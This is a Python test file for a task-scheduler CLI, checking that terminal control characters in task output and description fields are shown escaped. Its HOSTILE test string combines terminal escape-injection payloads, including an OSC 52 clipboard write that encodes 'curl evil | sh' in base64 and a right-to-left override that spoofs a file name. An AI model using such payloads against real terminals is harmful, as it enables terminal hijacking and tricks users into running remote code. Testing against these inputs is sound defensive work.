"""What a hostile task prints, or a hostile user writes in a field, cannot drive the terminal of
the person reading it with the CLI."""

from __future__ import annotations

import json
from typing import Any

from cli_harness import Cli, RemoteWorker

from scheduler_cli.output import printable

HOSTILE = "ok\x1b]0;owned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u202etxt.exe\x9b31m"


def test_printable_escapes_every_control_character() -> None:
    shown = printable(HOSTILE)
    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in shown)
    assert "\u202e" not in shown
    assert shown.startswith("ok\\x1b]0;owned\\x07\\x1b[2J")
    assert "\\u202e" in shown
    assert "\\x9b" in shown


def test_printable_keeps_line_breaks_and_tabs_only_for_lines() -> None:
    assert printable("a\tb\nc", lines=True) == "a\tb\nc"
    assert printable("a\tb\nc") == "a\\tb\\nc"


def test_a_hostile_description_is_shown_escaped_in_a_record(admin: Cli) -> None:
    created = admin(
        "tasks", "create", "--name", "bait", "--argv", "true", "--description", HOSTILE, "--json"
    )
    assert created.exit_code == 0, created.stderr
    shown = admin("tasks", "get", "bait")
    assert shown.exit_code == 0, shown.stderr
    assert "\x1b" not in shown.stdout
    assert "\\x1b]0;owned" in shown.stdout


def test_output_to_a_pipe_keeps_the_bytes_the_task_wrote(admin: Cli, worker: RemoteWorker) -> None:
    assert admin("tasks", "create", "--name", "raw", "--argv", "true").exit_code == 0
    run: dict[str, Any] = json.loads(admin("tasks", "trigger", "raw", "--json").stdout)
    worker.finish(status="succeeded", output="colour \x1b[31mred\x1b[0m\n")

    result = admin("runs", "output", run["id"])

    assert result.stdout == "colour \x1b[31mred\x1b[0m\n"
